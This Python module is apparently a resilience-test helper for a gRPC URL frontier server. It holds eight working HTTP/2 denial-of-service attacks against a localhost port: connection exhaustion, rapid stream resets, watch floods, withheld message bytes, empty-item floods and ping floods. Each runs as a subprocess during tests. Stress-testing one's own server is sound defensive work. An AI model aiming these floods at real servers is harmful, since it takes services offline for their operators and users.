"""A hostile client of the gRPC frontier: each function is one attack, as a process of its own until killed.

`python frontier_attacks.py NAME PORT` writes a line when the attack is under way.
"""

import resource
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from itertools import count
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.settings

MESSAGE = 4 << 20


class Hostile:
    """One connection that speaks HTTP/2 well enough to do harm."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.settimeout(5)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.flush()

    def flush(self) -> None:
        """Sends what is to be sent."""
        self.socket.sendall(self.h2.data_to_send())

    def begin(self, path: str) -> int:
        """The number of a new call."""
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(
            stream,
            [
                (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
                ("content-type", "application/grpc"), ("te", "trailers"),
            ],
        )  # fmt: skip
        return stream

    def read(self, seconds: float = 0.0) -> None:
        """Takes what the server says within that time, so that its windows open."""
        self.socket.settimeout(max(seconds, 0.001))
        with suppress(TimeoutError):
            data = self.socket.recv(1 << 16)
            if not data:
                raise ConnectionError("the server hung up")
            self.h2.receive_data(data)
        self.socket.settimeout(5)
        self.flush()

    def send(self, stream: int, data: bytes) -> None:
        """As much of it as the server takes within five seconds."""
        end = time.monotonic() + 5
        while data and time.monotonic() < end:
            room = min(self.h2.local_flow_control_window(stream), self.h2.max_outbound_frame_size)
            if room <= 0:
                self.read(0.2)
                continue
            self.h2.send_data(stream, data[:room])
            data = data[room:]
            self.flush()


def many(port: int, number: int, prepare: Callable[[Hostile], None]) -> None:
    """Keeps so many connections, each prepared in the same way; what the server closes is opened again."""
    held: list[Hostile] = []
    for each in count():
        try:
            hostile = Hostile(port)
            prepare(hostile)
            held.append(hostile)
        except OSError:
            time.sleep(0.01)
        if each == number:
            under_way()
        if len(held) > number:
            held.pop(0).socket.close()


def under_way() -> None:
    """From now on."""
    sys.stdout.write("under way\n")
    sys.stdout.flush()


def idle(port: int) -> None:
    """Connections that never say anything."""
    sockets = [socket.create_connection(("127.0.0.1", port)) for _ in range(1100)]
    under_way()
    while True:
        time.sleep(1)
        for at, each in enumerate(sockets):
            each.setblocking(False)
            with suppress(BlockingIOError, OSError):
                if each.recv(1 << 16) == b"":
                    sockets[at] = socket.create_connection(("127.0.0.1", port))


def greeted(port: int) -> None:
    """Connections that made one call and then nothing."""

    def call(hostile: Hostile) -> None:
        stream = hostile.begin("/grpc.health.v1.Health/Check")
        hostile.h2.send_data(stream, b"\0\0\0\0\0", end_stream=True)
        hostile.flush()

    many(port, 1100, call)


def resets(port: int) -> None:
    """Calls that are begun and dropped as fast as they can be written."""
    for each in count():
        try:
            hostile = Hostile(port)
            while True:
                for _ in range(100):
                    hostile.h2.reset_stream(hostile.begin("/urlfrontier.URLFrontier/GetStats"))
                hostile.flush()
        except OSError:
            pass
        if each == 3:
            under_way()


def watches(port: int) -> None:
    """Health watches by the thousand."""

    def watch(hostile: Hostile) -> None:
        for _ in range(100):
            stream = hostile.begin("/grpc.health.v1.Health/Watch")
            hostile.h2.send_data(stream, b"\0\0\0\0\0", end_stream=True)
        hostile.flush()
        hostile.read(0.5)

    many(port, 40, watch)


def unfinished(port: int) -> None:
    """Messages of which all but the last byte is sent."""
    message = b"\0" + MESSAGE.to_bytes(4, "big") + b"\0" * (MESSAGE - 1)

    def withhold(hostile: Hostile) -> None:
        for _ in range(50):
            hostile.send(hostile.begin("/urlfrontier.URLFrontier/PutURLs"), message)

    under_way()
    many(port, 2, withhold)


def empty_items(port: int) -> None:
    """Batches of two million empty items, one after another."""
    batch = b"\x12\0" * ((MESSAGE - 16) // 2)
    message = b"\0" + len(batch).to_bytes(4, "big") + batch
    under_way()
    while True:
        with suppress(OSError):
            hostile = Hostile(port)
            hostile.send(hostile.begin("/urlfrontier.URLFrontier/PutDiscovered"), message)
            hostile.read(0.5)


def empty_messages(port: int) -> None:
    """Items of no bytes at all, a million in a stream."""
    under_way()
    while True:
        with suppress(OSError):
            hostile = Hostile(port)
            stream = hostile.begin("/urlfrontier.URLFrontier/PutURLs")
            for _ in range(20):
                hostile.send(stream, b"\0\0\0\0\0" * 200_000)


def pings(port: int) -> None:
    """Pings that must be answered, and nothing else."""
    under_way()
    while True:
        with suppress(OSError):
            hostile = Hostile(port)
            while True:
                for _ in range(1000):
                    hostile.h2.ping(b"12345678")
                hostile.flush()


ATTACKS = {
    each.__name__: each
    for each in (idle, greeted, resets, watches, unfinished, empty_items, empty_messages, pings)
}


@contextmanager
def attacked(name: str, port: int) -> Iterator[None]:
    """The attack is under way meanwhile."""
    attacker = subprocess.Popen(
        [sys.executable, __file__, name, str(port)],
        cwd=Path(__file__).parents[2],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    try:
        assert attacker.stdout is not None
        assert attacker.stdout.readline() == "under way\n"
        yield
    finally:
        attacker.kill()
        attacker.communicate()


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    ATTACKS[sys.argv[1]](int(sys.argv[2]))
